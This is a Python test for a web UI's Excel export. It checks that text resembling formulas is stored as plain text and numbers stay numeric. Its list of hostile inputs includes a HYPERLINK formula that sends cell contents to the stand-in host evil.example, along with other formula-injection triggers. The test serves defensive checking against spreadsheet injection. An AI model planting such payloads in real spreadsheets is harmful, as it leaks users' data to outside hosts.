"""Excel exports write people's text as text: nothing a user typed becomes a live formula."""
from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from services.indicator_tables import Cell, Table
from webui import excel

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+86 0796 8888000", "-2+3", "@SUM(A1:A9)",
           "\t=1+1"]


def test_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers():
    rows = [[Cell(text), Cell("-3", value=-3), Cell("12.5%", value=0.125, percent=True)] for text in HOSTILE]
    data = excel.workbook([Table("t", "=团队", ["=名称", "数", "率"], rows)], "=2026-03")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "=2026-03" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert [sheet.cell(row=3 + n, column=1).value for n in range(len(HOSTILE))] == HOSTILE
    assert all(sheet.cell(row=3 + n, column=1).data_type == "s" for n in range(len(HOSTILE)))
    assert sheet["B3"].value == -3 and sheet["B3"].data_type == "n" and sheet["C3"].value == 0.125
